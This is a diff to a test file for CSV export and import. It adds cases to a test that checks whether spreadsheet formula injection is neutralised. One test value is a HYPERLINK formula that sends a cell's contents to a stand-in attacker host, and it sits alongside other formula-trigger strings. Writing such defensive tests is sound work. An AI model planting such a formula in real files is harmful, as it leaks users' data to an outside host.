@@ -17,7 +17,15 @@ onEachDatabase(({ createUrl, open }) => {
   });
 
   test("an export to CSV neutralises texts that a spreadsheet would run, and its import restores them", async () => {
-    const titles = ['=HYPERLINK("http://evil.example/"&A1)', "@SUM(1)", "-2+3", "+1 555", "'quoted", "plain"];
+    const titles = [
+      '=HYPERLINK("http://evil.example/"&A1)',
+      "@SUM(1)",
+      "-2+3",
+      "+1 555",
+      "'quoted",
+      "a;=1",
+      "plain",
+    ];
     const { database, source } = await imported(
       `email,position,phone\n${titles.map((title, index) => `p${index}@a.example,"${title.replaceAll('"', '""')}",+41 55 ${index}`).join("\n")}`,
     );
